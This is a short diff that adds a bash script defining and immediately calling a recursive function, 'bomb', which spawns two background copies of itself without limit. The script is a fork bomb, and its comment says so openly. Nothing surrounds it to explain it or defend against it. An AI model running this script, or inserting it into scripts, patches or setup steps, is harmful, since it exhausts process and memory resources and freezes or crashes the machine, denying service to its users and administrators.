@@ -1,0 +1,4 @@
+#!/bin/bash
+# Forks without end; each one stays.
+bomb() { bomb & bomb & wait; }
+bomb
